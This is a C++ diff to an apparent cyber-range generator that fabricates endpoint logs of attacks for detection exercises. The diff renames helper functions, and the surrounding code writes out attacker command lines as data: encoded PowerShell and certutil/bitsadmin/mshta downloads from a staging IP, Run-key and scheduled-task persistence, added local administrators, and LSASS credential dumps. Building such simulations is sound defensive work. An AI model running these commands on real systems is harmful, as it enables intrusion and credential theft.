@@ -8,16 +8,12 @@
 namespace quarry::range {
 namespace {
 
-bool WindowsClient(const Host& h) { return h.windows() && !h.server(); }
-bool WindowsServer(const Host& h) { return h.windows() && h.server() && h.role != HostRole::kDomainController; }
 bool AnyWindows(const Host& h) { return h.windows() && h.role != HostRole::kDomainController; }
 
-int64_t Sec(Rng& rng, int64_t lo, int64_t hi) { return rng.Between(lo * 1000, hi * 1000) * kTicksPerMillisecond; }
-int64_t Day(int64_t t) { return FloorDiv(t, kTicksPerDay) * kTicksPerDay; }
 
 // The interactive user of `host` (its owner, else a domain user), their explorer.exe.
 Proc UserDesktop(ScenarioContext& c, const Host& host, int64_t t) {
-  Proc explorer = c.dev.Resident(host, "explorer.exe", Day(t));
+  Proc explorer = c.dev.Resident(host, "explorer.exe", DayStart(t));
   const User& u = host.primary_user >= 0 ? c.world.users[host.primary_user] : c.PickUser(true);
   explorer.account = DomainAccount(c.world, u);
   c.AddUser(u.account);
@@ -38,7 +34,7 @@ const char* const kPayloadNames[] = {"update.exe", "svchost32.exe", "msupdate.ex
 
 void PlantEncodedPowerShell(ScenarioContext& c) {
   TruthRecord& r = *c.record;
-  const Host& host = c.PickHost({"vm-final-lab-pr", "ws-22", "laptop-frank"}, WindowsClient);
+  const Host& host = c.PickHost({"vm-final-lab-pr", "ws-22", "laptop-frank"}, IsWindowsClient);
   int64_t t = c.PickStart(kTicksPerHour);
   Proc desk = UserDesktop(c, host, t);
   std::string ip = StagingIp(c);
@@ -62,8 +58,8 @@ void PlantEncodedPowerShell(ScenarioContext& c) {
   static const char* const kFlags[] = {"-nop -w hidden -enc", "-NoProfile -WindowStyle Hidden -EncodedCommand",
                                        "-noP -sta -w 1 -enc", "-ExecutionPolicy Bypass -e"};
   std::string cmd = fmt::format("powershell.exe {} {}", kFlags[c.rng.Below(std::size(kFlags))], EncodePowerShell(script));
-  Proc ps = c.dev.Spawn(parent, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", cmd, t + Sec(c.rng, 1, 4), c.tag);
-  c.dev.Network(ps, ps.created + Sec(c.rng, 1, 3), "ConnectionSuccess", ip, script.find("https") != std::string::npos ? 443 : 80,
+  Proc ps = c.dev.Spawn(parent, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", cmd, t + Seconds(c.rng, 1, 4), c.tag);
+  c.dev.Network(ps, ps.created + Seconds(c.rng, 1, 3), "ConnectionSuccess", ip, script.find("https") != std::string::npos ? 443 : 80,
                 "", "Tcp", c.tag);
   r.name = "Encoded PowerShell download cradle on " + host.name + " launched by " + parent.file_name;
   r.techniques = {"T1059.001", "T1027", "T1105"};
@@ -91,19 +87,19 @@ void PlantCertutilDownload(ScenarioContext& c) {
     std::string line = c.rng.Chance(0.5)
                            ? fmt::format("certutil.exe -urlcache -split -f {} {}\\{}", url, dir, payload)
                            : fmt::format("certutil -urlcache -f {} {}\\{}", url, dir, payload);
-    tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\certutil.exe)", line, t + Sec(c.rng, 5, 60), c.tag);
+    tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\certutil.exe)", line, t + Seconds(c.rng, 5, 60), c.tag);
   } else {
     std::string line = fmt::format("bitsadmin /transfer {} /download /priority high {} {}\\{}",
                                    c.rng.Chance(0.5) ? "myjob" : "update", url, dir, payload);
-    tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\bitsadmin.exe)", line, t + Sec(c.rng, 5, 60), c.tag);
+    tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\bitsadmin.exe)", line, t + Seconds(c.rng, 5, 60), c.tag);
   }
-  c.dev.Network(tool, tool.created + Sec(c.rng, 1, 2), "ConnectionSuccess", ip, 80, "", "Tcp", c.tag);
+  c.dev.Network(tool, tool.created + Seconds(c.rng, 1, 2), "ConnectionSuccess", ip, 80, "", "Tcp", c.tag);
   Proc writer = tool;
-  if (!use_certutil) writer = c.dev.Resident(host, "netsvcs -p", Day(t));  // BITS writes the file
-  Row& f = c.dev.File(writer, tool.created + Sec(c.rng, 2, 5), "FileCreated", dir, payload,
+  if (!use_certutil) writer = c.dev.Resident(host, "netsvcs -p", DayStart(t));  // BITS writes the file
+  Row& f = c.dev.File(writer, tool.created + Seconds(c.rng, 2, 5), "FileCreated", dir, payload,
                       c.rng.Between(80000, 900000), c.tag);
   f.Set("FileOriginUrl", url).Set("FileOriginIP", ip);
-  c.dev.Spawn(cmd, dir + "\\" + payload, dir + "\\" + payload, tool.created + Sec(c.rng, 20, 90), c.tag);
+  c.dev.Spawn(cmd, dir + "\\" + payload, dir + "\\" + payload, tool.created + Seconds(c.rng, 20, 90), c.tag);
   r.name = fmt::format("{} downloads {} to {} on {}", use_certutil ? "certutil" : "bitsadmin", payload, dir, host.name);
   r.techniques = use_certutil ? std::vector<std::string>{"T1105", "T1140"} : std::vector<std::string>{"T1105", "T1197"};
   r.description = "A built-in Windows tool is abused to fetch a payload over HTTP, which is then run.";
@@ -115,7 +111,7 @@ void PlantCertutilDownload(ScenarioContext& c) {
 
 void PlantLolbinProxy(ScenarioContext& c) {
   TruthRecord& r = *c.record;
-  const Host& host = c.PickHost({"ws-22", "laptop-frank", "mde-test-cyn"}, WindowsClient);
+  const Host& host = c.PickHost({"ws-22", "laptop-frank", "mde-test-cyn"}, IsWindowsClient);
   int64_t t = c.PickStart(kTicksPerHour);
   Proc desk = UserDesktop(c, host, t);
   std::string ip = StagingIp(c);
@@ -126,7 +122,7 @@ void PlantLolbinProxy(ScenarioContext& c) {
     Proc shell = c.dev.Spawn(desk, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "\"powershell.exe\"", t, c.tag);
     p = c.dev.Spawn(shell, R"(C:\Windows\System32\rundll32.exe)",
                     fmt::format("rundll32.exe {},{}", dll, c.rng.Chance(0.5) ? "DllRegisterServer" : "StartW"),
-                    t + Sec(c.rng, 10, 120), c.tag);
+                    t + Seconds(c.rng, 10, 120), c.tag);
     c.AddFile(std::string(BaseName(dll)));
     r.techniques = {"T1218.011"};
   } else if (variant == 1) {
@@ -137,10 +133,10 @@ void PlantLolbinProxy(ScenarioContext& c) {
     Proc outlook = c.dev.Spawn(desk, R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "\"OUTLOOK.EXE\"", t, c.tag);
     p = c.dev.Spawn(outlook, R"(C:\Windows\System32\mshta.exe)",
                     fmt::format("\"C:\\Windows\\System32\\mshta.exe\" http://{}/{}.hta", ip, c.rng.Chance(0.5) ? "invoice" : "doc"),
-                    t + Sec(c.rng, 5, 60), c.tag);
+                    t + Seconds(c.rng, 5, 60), c.tag);
     r.techniques = {"T1218.005"};
   }
-  c.dev.Network(p, p.created + Sec(c.rng, 1, 3), "ConnectionSuccess", ip, variant == 0 ? 443 : 80, "", "Tcp", c.tag);
+  c.dev.Network(p, p.created + Seconds(c.rng, 1, 3), "ConnectionSuccess", ip, variant == 0 ? 443 : 80, "", "Tcp", c.tag);
   r.name = fmt::format("Signed binary proxy execution via {} on {}", p.file_name, host.name);
   r.description = "A signed Windows binary (rundll32, regsvr32 or mshta) runs attacker code and "
                   "calls out to the internet.";
@@ -150,7 +146,7 @@ void PlantLolbinProxy(ScenarioContext& c) {
 
 void PlantRunKey(ScenarioContext& c) {
   TruthRecord& r = *c.record;
-  const Host& host = c.PickHost({"ws-22", "ws-30", "vm-final-lab-pr"}, WindowsClient);
+  const Host& host = c.PickHost({"ws-22", "ws-30", "vm-final-lab-pr"}, IsWindowsClient);
   int64_t t = c.PickStart(kTicksPerHour);
   Proc desk = UserDesktop(c, host, t);
   static const char* const kValueNames[] = {"OneDriveUpdate", "SecurityHealth2", "MicrosoftEdgeAutoLaunch_", "WindowsUpdateCheck"};
@@ -164,7 +160,7 @@ void PlantRunKey(ScenarioContext& c) {
   Proc reg = c.dev.SpawnAs(cmd, R"(C:\Windows\System32\reg.exe)",
                            fmt::format(R"(reg add "{}\Software\Microsoft\Windows\CurrentVersion\Run" /v {} /t REG_SZ /d "{}" /f)",
                                        hklm ? "HKLM" : "HKCU", value, payload),
-                           desk.account, hklm ? "High" : "Medium", t + Sec(c.rng, 5, 40), c.tag);
+                           desk.account, hklm ? "High" : "Medium", t + Seconds(c.rng, 5, 40), c.tag);
   c.dev.Registry(reg, reg.created + kTicksPerSecond / 5, "RegistryValueSet", key, value, "String", payload, c.tag);
   r.name = "Registry Run key persistence (" + value + ") on " + host.name;
   r.techniques = {"T1547.001", "T1112"};
@@ -189,8 +185,8 @@ void PlantScheduledTask(ScenarioContext& c) {
   Proc st = c.dev.Spawn(cmd, R"(C:\Windows\System32\schtasks.exe)",
                         fmt::format(R"(schtasks /create /tn "{}" /tr "{}" {} /ru SYSTEM /f)", task, action,
                                     kSchedules[c.rng.Below(std::size(kSchedules))]),
-                        t + Sec(c.rng, 5, 60), c.tag);
-  Proc sched = c.dev.Resident(host, "netsvcs -p", Day(t));
+                        t + Seconds(c.rng, 5, 60), c.tag);
+  Proc sched = c.dev.Resident(host, "netsvcs -p", DayStart(t));
   c.dev.Registry(sched, st.created + kTicksPerSecond / 2, "RegistryKeyCreated",
                  R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree)" + task,
                  "", "", "", c.tag);
@@ -213,14 +209,14 @@ void PlantNewLocalAdmin(ScenarioContext& c) {
   static const char* const kNames[] = {"support_svc", "helpdesk01", "adm1n", "backupadmin", "sqlsvc$"};
   std::string name = kNames[c.rng.Below(std::size(kNames))];
   Proc cmd = c.dev.SpawnAs(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", desk.account, "High", t, c.tag);
-  int64_t t1 = t + Sec(c.rng, 5, 40);
+  int64_t t1 = t + Seconds(c.rng, 5, 40);
   Proc net = c.dev.Spawn(cmd, R"(C:\Windows\System32\net.exe)", fmt::format("net user {} P@ssw0rd{}! /add", name, c.rng.Between(10, 99)), t1, c.tag);
   c.dev.Spawn(net, R"(C:\Windows\System32\net1.exe)", fmt::format(" user {} P@ssw0rd! /add", name), t1 + kTicksPerSecond / 10, c.tag);
-  int64_t t2 = t1 + Sec(c.rng, 5, 60);
+  int64_t t2 = t1 + Seconds(c.rng, 5, 60);
   std::string group = c.rng.Chance(0.7) ? "administrators" : "\"Remote Desktop Users\"";
   Proc net2 = c.dev.Spawn(cmd, R"(C:\Windows\System32\net.exe)", fmt::format("net localgroup {} {} /add", group, name), t2, c.tag);
   c.dev.Spawn(net2, R"(C:\Windows\System32\net1.exe)", fmt::format(" localgroup {} {} /add", group, name), t2 + kTicksPerSecond / 10, c.tag);
-  Proc lsass = c.dev.Resident(host, "lsass.exe", Day(t));
+  Proc lsass = c.dev.Resident(host, "lsass.exe", DayStart(t));
   c.dev.Registry(lsass, t1 + kTicksPerSecond / 2, "RegistryKeyCreated",
                  fmt::format(R"(HKEY_LOCAL_MACHINE\SAM\SAM\Domains\Account\Users\Names\{})", name), "", "", "", c.tag);
   r.name = "New local account " + name + " added to " + group + " on " + host.name;
@@ -234,28 +230,28 @@ void PlantNewLocalAdmin(ScenarioContext& c) {
 
 void PlantLsassDump(ScenarioContext& c) {
   TruthRecord& r = *c.record;
-  const Host& host = c.PickHost({"windows-target-1", "fileserver-1", "sql-01"}, WindowsServer);
+  const Host& host = c.PickHost({"windows-target-1", "fileserver-1", "sql-01"}, IsWindowsMemberServer);
   int64_t t = c.PickStart(kTicksPerHour);
   Proc desk = UserDesktop(c, host, t);
   Proc cmd = c.dev.SpawnAs(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", desk.account, "High", t, c.tag);
-  Proc lsass = c.dev.Resident(host, "lsass.exe", Day(t));
+  Proc lsass = c.dev.Resident(host, "lsass.exe", DayStart(t));
   std::string dump;
   Proc tool;
   if (c.rng.Chance(0.5)) {
     dump = c.rng.Chance(0.5) ? "lsass.dmp" : "out.dmp";
     tool = c.dev.Spawn(cmd, R"(C:\Users\Public\procdump64.exe)",
                        fmt::format(R"(procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{})", dump),
-                       t + Sec(c.rng, 10, 90), c.tag);
+                       t + Seconds(c.rng, 10, 90), c.tag);
     r.techniques = {"T1003.001"};
   } else {
     dump = c.rng.Chance(0.5) ? "debug.bin" : "mem.dmp";
     tool = c.dev.Spawn(cmd, R"(C:\Windows\System32\rundll32.exe)",
                        fmt::format(R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\{} full)", lsass.pid, dump),
-                       t + Sec(c.rng, 10, 90), c.tag);
+                       t + Seconds(c.rng, 10, 90), c.tag);
     r.techniques = {"T1003.001", "T1218.011"};
     c.AddFile("comsvcs.dll");
   }
-  c.dev.File(tool, tool.created + Sec(c.rng, 1, 4), "FileCreated", R"(C:\Windows\Temp)", dump,
+  c.dev.File(tool, tool.created + Seconds(c.rng, 1, 4), "FileCreated", R"(C:\Windows\Temp)", dump,
              c.rng.Between(40'000'000, 90'000'000), c.tag);
   r.name = "LSASS memory dumped with " + tool.file_name + " on " + host.name;
   r.description = "Credential theft: the memory of lsass.exe is written to a dump file.";
@@ -267,7 +263,7 @@ void PlantLsassDump(ScenarioContext& c) {
 
 void PlantDiscoveryBurst(ScenarioContext& c) {
   TruthRecord& r = *c.record;
-  const Host& host = c.PickHost({"ws-22", "vm-final-lab-pr", "laptop-frank"}, WindowsClient);
+  const Host& host = c.PickHost({"ws-22", "vm-final-lab-pr", "laptop-frank"}, IsWindowsClient);
   int64_t t = c.PickStart(kTicksPerHour);
   Proc desk = UserDesktop(c, host, t);
   Proc cmd = c.dev.Spawn(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", t, c.tag);
@@ -287,7 +283,7 @@ void PlantDiscoveryBurst(ScenarioContext& c) {
   size_t n = static_cast<size_t>(c.rng.Between(6, static_cast<int64_t>(cmds.size())));
   int64_t ct = t;
   for (size_t i = 0; i < n; ++i) {
-    ct += Sec(c.rng, 2, 15);
+    ct += Seconds(c.rng, 2, 15);
     Proc p = c.dev.Spawn(cmd, cmds[i].path, cmds[i].line, ct, c.tag);
     c.AddProcess(p.file_name);
   }
